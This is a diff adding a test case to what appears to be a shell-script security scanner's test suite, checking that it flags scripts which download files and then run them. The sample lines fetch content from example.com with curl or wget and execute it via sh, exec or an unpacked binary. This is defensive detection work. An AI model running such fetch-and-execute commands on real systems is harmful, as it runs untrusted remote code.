@@ -87,6 +87,19 @@ describe('shell scripts scanned', () => {
     assert.deepEqual(scan(text, ['anthropic']).filter(f => f.includes('high')), [], "the assistant's own configuration");
   });
 
+  it('tells a download the script runs: written and started, moved then started, given to sh, unpacked and a program of it started (download-exec)', () => {
+    const text = [
+      'BIN_DIR="$HOME/.local/bin"', 'TMP="$(mktemp)"', 'curl -fsSL -o "$TMP" "https://example.com/t.tgz"', 'tar -xzf "${TMP}" -C "$BIN_DIR/stage"', 'chmod +x "$BIN_DIR/stage/tool"', '"$BIN_DIR/stage/tool" --version',
+      'wget -qO /tmp/inst.sh https://example.com/inst.sh', 'sh /tmp/inst.sh', 'curl -fsSL https://example.com/x > "$BIN_DIR/x"', 'mv "$BIN_DIR/x" "$BIN_DIR/y"', 'exec "$BIN_DIR/y" "$@"',
+      'curl -o notes.txt https://example.com/notes', 'cat notes.txt', 'curl -fsSLo "$BIN_DIR/z" https://example.com/z', 'chmod +x "$BIN_DIR/z"', '',
+    ].join('\n');
+    assert.deepEqual(scan(text).filter(f => f.includes('download-exec')), [
+      'medium download-exec 6:1 Unpacks a downloaded archive into ~/.local/bin/stage and runs a program from it (the script itself)',
+      'medium download-exec 8:1 Writes a download to /tmp/inst.sh and runs it (the script itself)',
+      'medium download-exec 11:1 Writes a download to ~/.local/bin/y and runs it (the script itself)',
+    ]);
+  });
+
   it('names places the script mentions (low), not a message that ends with one', () => {
     const text = 'P="$HOME/.bashrc"\n[ -f "$P" ] && echo "Using shell profile: $P"\nlaunchctl load "$HOME/Library/LaunchAgents/x.plist"\n';
     assert.deepEqual(scan(text).filter(f => f.includes('persistence-location')), [
